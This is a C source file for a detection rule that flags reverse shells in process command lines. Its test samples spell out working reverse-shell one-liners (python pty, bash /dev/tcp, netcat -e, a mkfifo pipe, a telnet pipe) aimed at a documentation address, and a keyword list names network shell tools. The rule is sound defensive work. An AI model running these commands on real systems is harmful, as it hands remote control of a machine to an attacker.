#include "detect/command_facts.h"
#include "detect/rule.h"

static const char *const words[] = {"/dev/tcp", "/dev/udp", "nc", "netcat", "socat", "telnet", "socket", "fsockopen", "/inet/tcp", "s_client", "net.connect", NULL};
static const char *const netcats[] = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", NULL};

/* Bash's own sockets, wherever they stand. */
static const char *bash_socket(const struct judging *judging)
{
    const struct text text = judging->line->text;

    if (!text_contains_nocase(text, "/dev/tcp/") && !text_contains_nocase(text, "/dev/udp/"))
        return NULL;
    bool shell = text_contains_nocase(text, "sh -i") || text_contains_nocase(text, "exec ") || text_contains_nocase(text, "0>&1") ||
                 text_contains_nocase(text, "0<&") || text_contains_nocase(text, "| sh") || text_contains_nocase(text, "|sh") ||
                 text_contains_nocase(text, "| bash") || text_contains_nocase(text, "<&");
    return shell ? "a shell's input and output are a network connection" : NULL;
}

/* -e sh, -c 'sh -i', --exec; also where the letter stands among others. */
static bool netcat_runs(const struct command *command)
{
    for (size_t i = 1; i + 1 < command->word_count; i++) {
        struct text word = command->words[i], next = event_base_name(command->words[i + 1]);
        bool runs = text_equal(word, TEXT("--exec")) || text_equal(word, TEXT("--sh-exec")) ||
                    (word.count > 1 && word.bytes[0] == '-' && word.bytes[1] != '-' &&
                     (word.bytes[word.count - 1] == 'e' || word.bytes[word.count - 1] == 'c'));
        if (runs && (text_ends(next, TEXT("sh")) || text_starts(next, TEXT("sh ")) || text_starts(next, TEXT("bash")) || text_contains_nocase(next, "cmd")))
            return true;
    }
    return false;
}

/* A pipe between a shell and what connects, on either side: "mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f". */
static bool piped_to_shell(const struct judging *judging, const struct command *command)
{
    const struct command *into = command_feeds(judging->line, command), *from = command_fed_by(judging->line, command);

    return (into && command_is_shell(into)) || (from && command_is_shell(from));
}

static bool script_connects(const struct command *command)
{
    static const char *const runs[] = {"dup2", "pty.spawn", "subprocess", "os.system", "exec", "/bin/sh", "/bin/bash", "popen", "spawn", "proc_open", NULL};
    static const char *const opens[] = {"fsockopen", "/inet/tcp", "net.connect", "TCPSocket", "socket.tcp", NULL};
    bool awk = text_ends(command->name, TEXT("awk"));

    if (!command_is_interpreter(command) && !awk)
        return false;
    bool socket = command_contains_any(command, opens);
    for (size_t i = 1; i < command->word_count; i++) {
        struct text word = command->words[i];
        socket = socket || (text_contains_nocase(word, "socket") && (text_contains_nocase(word, "connect") || text_contains_nocase(word, "PeerAddr")));
    }
    return socket && (awk || command_contains_any(command, runs));
}

static const char *wrong_with(const struct judging *judging, const struct command *command)
{
    const char *wrong = command == judging->line->commands ? bash_socket(judging) : NULL;
    bool netcat = text_among(command->name, netcats);

    if (wrong)
        return wrong;
    if (netcat && netcat_runs(command))
        return "netcat runs a shell for whom it connects to";
    bool connects_out = netcat || text_equal(command->name, TEXT("telnet")) ||
                        (text_equal(command->name, TEXT("openssl")) && command_word(command, "s_client").bytes);
    if (connects_out && piped_to_shell(judging, command))
        return "a shell is piped into a network connection";
    if (text_equal(command->name, TEXT("socat"))) {
        bool runs = false, connects = false;
        for (size_t i = 1; i < command->word_count; i++) {
            struct text word = command->words[i];
            runs = runs || ((text_contains_nocase(word, "exec:") || text_contains_nocase(word, "system:")) && text_contains_nocase(word, "sh"));
            connects = connects || text_contains_nocase(word, "tcp") || text_contains_nocase(word, "openssl") || text_contains_nocase(word, "udp");
        }
        if (runs && connects)
            return "socat runs a shell for whom it connects to";
    }
    return script_connects(command) ? "a script connects a shell to the network" : NULL;
}

static const struct rule_sample samples[] = {
    {true, "$ python -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")"},
    {true, "$ bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"},
    {true, "$ busybox nc 198.51.100.7 4444 -e /bin/sh"},
    {true, "$ sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 443 > /tmp/f"},
    {true, "$ python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"},
    {true, "$ telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445"},
    {false, "$ nc -zv 192.0.2.10 8883"},
    {false, "$ python3 -c 'import socket; print(socket.gethostname())'"},
    {false, "$ bash -c 'timeout 1 cat < /dev/null > /dev/tcp/127.0.0.1/8883'"},
    {false, "$ telnet 192.168.1.1"},
};

const struct rule rule_reverse_shell = {
    .id = "IoT_ReverseShell",
    .title = "A shell wired to an outgoing connection",
    .severity = "High",
    .tactics = "Execution, CommandAndControl",
    .techniques = "T1059.004, T1095, T0885",
    .fires = "A shell whose input and output are `/dev/tcp`; netcat or socat that run a shell; a shell piped into netcat, telnet or "
             "`openssl s_client`; Python, Perl, PHP, Ruby, Lua, Node and awk one-liners that connect a shell.",
    .spares = "Port checks by netcat or `/dev/tcp`; telnet by hand; scripts that use sockets and run nothing.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for a test's user.",
    .remediation = rule_ask_user,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .command = wrong_with,
    RULE_SAMPLES(samples),
};
